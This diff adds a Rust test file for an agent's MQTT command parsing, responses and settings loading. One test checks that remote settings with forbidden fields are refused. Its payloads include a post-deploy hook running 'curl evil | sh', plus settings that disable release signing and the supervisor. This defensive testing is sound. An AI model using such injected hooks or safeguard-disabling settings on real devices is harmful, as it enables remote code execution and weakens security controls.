@@ -0,0 +1,208 @@
+// internal crates
+use miru_agent::config::ConfigErr;
+use miru_agent::filesys::{self, PathExt};
+use miru_agent::logs::LogLevel;
+use miru_agent::mqtt::command::{Command, Request, Response, SettingsSource, Status};
+use miru_agent::storage::Settings;
+
+// external crates
+use serde_json::json;
+
+mod parse {
+    use super::*;
+
+    #[test]
+    fn commands() {
+        let cases = [
+            (json!({"name": "sync_now"}), Command::SyncNow),
+            (json!({"name": "reload_settings"}), Command::ReloadSettings),
+            (
+                json!({"name": "set_remote_settings", "settings": {"log_level": "warn"}}),
+                Command::SetRemoteSettings {
+                    settings: json!({"log_level": "warn"}),
+                },
+            ),
+            (
+                json!({"name": "set_log_level", "level": "debug"}),
+                Command::SetLogLevel {
+                    level: "debug".to_string(),
+                },
+            ),
+            (json!({"name": "report_health"}), Command::ReportHealth),
+            (
+                json!({"name": "pause_deployments", "reason": "INC-42"}),
+                Command::PauseDeployments {
+                    reason: Some("INC-42".to_string()),
+                },
+            ),
+            (
+                json!({"name": "resume_deployments"}),
+                Command::ResumeDeployments,
+            ),
+        ];
+        for (value, expected) in cases {
+            let command: Command = serde_json::from_value(value.clone()).unwrap();
+            assert_eq!(command, expected);
+            assert_eq!(value["name"], command.name());
+        }
+    }
+
+    #[test]
+    fn pause_deployments_without_a_reason() {
+        let command: Command =
+            serde_json::from_value(json!({"name": "pause_deployments"})).unwrap();
+        assert_eq!(command, Command::PauseDeployments { reason: None });
+    }
+
+    #[test]
+    fn invalid_commands() {
+        for value in [
+            json!({"name": "reboot"}),
+            json!({"name": "set_log_level"}),
+            json!({"name": "pause_deployments", "reason": 42}),
+            json!({}),
+        ] {
+            assert!(
+                serde_json::from_value::<Command>(value.clone()).is_err(),
+                "{value}"
+            );
+        }
+    }
+
+    #[test]
+    fn requests_keep_unknown_commands() {
+        let request: Request = serde_json::from_value(json!({
+            "message_id": "msg-1",
+            "command": {"name": "reboot"},
+        }))
+        .unwrap();
+        assert_eq!(request.message_id, "msg-1");
+        assert_eq!(request.command["name"], "reboot");
+    }
+}
+
+mod response {
+    use super::*;
+
+    #[test]
+    fn succeeded() {
+        let response = Response::succeeded(
+            "msg-1".to_string(),
+            &Command::ReportHealth,
+            Some(json!({"ok": true})),
+        );
+        let value = serde_json::to_value(&response).unwrap();
+        assert_eq!(value["message_id"], "msg-1");
+        assert_eq!(value["command"], "report_health");
+        assert_eq!(value["status"], "succeeded");
+        assert_eq!(value["result"], json!({"ok": true}));
+        assert!(value.get("error").is_none());
+        chrono::DateTime::parse_from_rfc3339(&response.timestamp).unwrap();
+    }
+
+    #[test]
+    fn failed() {
+        let response = Response::failed("msg-2".to_string(), None, "invalid".to_string());
+        assert_eq!(response.status, Status::Failed);
+        let value = serde_json::to_value(&response).unwrap();
+        assert!(value.get("command").is_none());
+        assert!(value.get("result").is_none());
+        assert_eq!(value["error"], "invalid");
+    }
+}
+
+mod settings_source {
+    use super::*;
+
+    async fn source(dir: &filesys::Dir, settings: serde_json::Value) -> SettingsSource {
+        let file = dir.file("settings.json");
+        file.write_json(&settings, filesys::WriteOptions::OVERWRITE_ATOMIC)
+            .await
+            .unwrap();
+        let applied = serde_json::to_value(Settings::default()).unwrap();
+        SettingsSource {
+            file,
+            remote_file: dir.file("remote_settings.json"),
+            overrides: Vec::new(),
+            applied,
+        }
+    }
+
+    #[tokio::test]
+    async fn log_level_changes_need_no_restart() {
+        let dir = filesys::Dir::create_temp_dir("testing").await.unwrap();
+        let source = source(&dir, json!({"log_level": "debug"})).await;
+        let settings = source.load().await.unwrap();
+        assert_eq!(settings.log_level, LogLevel::Debug);
+        assert!(!source.restart_required(&settings));
+    }
+
+    #[tokio::test]
+    async fn other_changes_need_a_restart() {
+        let dir = filesys::Dir::create_temp_dir("testing").await.unwrap();
+        let source = source(&dir, json!({"enable_poller": false})).await;
+        let settings = source.load().await.unwrap();
+        assert!(source.restart_required(&settings));
+    }
+
+    #[tokio::test]
+    async fn overrides_apply() {
+        let dir = filesys::Dir::create_temp_dir("testing").await.unwrap();
+        let mut source = source(&dir, json!({})).await;
+        source.overrides = vec![("log_level".to_string(), "warn".to_string())];
+        let settings = source.load().await.unwrap();
+        assert_eq!(settings.log_level, LogLevel::Warn);
+    }
+
+    #[tokio::test]
+    async fn missing_file_errors() {
+        let dir = filesys::Dir::create_temp_dir("testing").await.unwrap();
+        let source = SettingsSource {
+            file: dir.file("missing.json"),
+            remote_file: dir.file("remote_settings.json"),
+            overrides: Vec::new(),
+            applied: json!({}),
+        };
+        assert!(source.load().await.is_err());
+    }
+
+    #[tokio::test]
+    async fn set_remote_overrides_the_file() {
+        let dir = filesys::Dir::create_temp_dir("testing").await.unwrap();
+        let source = source(&dir, json!({"log_level": "debug"})).await;
+        let settings = source
+            .set_remote(json!({"log_level": "warn"}))
+            .await
+            .unwrap();
+        assert_eq!(settings.log_level, LogLevel::Warn);
+        assert_eq!(source.load().await.unwrap().log_level, LogLevel::Warn);
+    }
+
+    #[tokio::test]
+    async fn fields_a_remote_cant_set_are_refused() {
+        let dir = filesys::Dir::create_temp_dir("testing").await.unwrap();
+        let source = source(&dir, json!({})).await;
+        let payloads = [
+            json!({"hooks": {"post_deploy": ["sh", "-c", "curl evil | sh"]}}),
+            json!({"log_level": "warn", "release_signing": {"required": false}}),
+            json!({"supervisor": {"enabled": false}}),
+            json!({"not_a_field": true}),
+        ];
+        for payload in payloads {
+            let result = source.set_remote(payload).await;
+            assert!(
+                matches!(result, Err(ConfigErr::RemoteFieldErr(_))),
+                "{result:?}"
+            );
+            assert!(!source.remote_file.exists());
+        }
+    }
+
+    #[tokio::test]
+    async fn invalid_remote_settings_are_not_written() {
+        let dir = filesys::Dir::create_temp_dir("testing").await.unwrap();
+        let source = source(&dir, json!({})).await;
+        assert!(source.set_remote(json!("warn")).await.is_err());
+        assert!(!source.remote_file.exists());
+    }
+}